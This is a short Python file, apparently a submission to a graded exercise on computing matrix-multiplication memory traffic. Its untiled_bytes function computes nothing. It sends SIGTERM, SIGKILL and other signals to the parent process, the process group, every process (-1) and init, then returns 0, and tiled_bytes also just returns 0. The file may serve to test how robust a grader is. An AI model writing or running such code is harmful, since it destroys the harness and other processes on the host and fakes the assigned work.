# Signals to its parent, its group, and everybody.

# %% replace=a-traffic
import os
import signal


def untiled_bytes(m, n, k, itemsize):
    for target in (os.getppid(), -os.getppid(), 0, -1, 1):
        for number in (signal.SIGCONT, signal.SIGUSR1, signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(target, number)
            except OSError:
                pass
    return 0


def tiled_bytes(m, n, k, tile_m, tile_n, itemsize):
    return 0
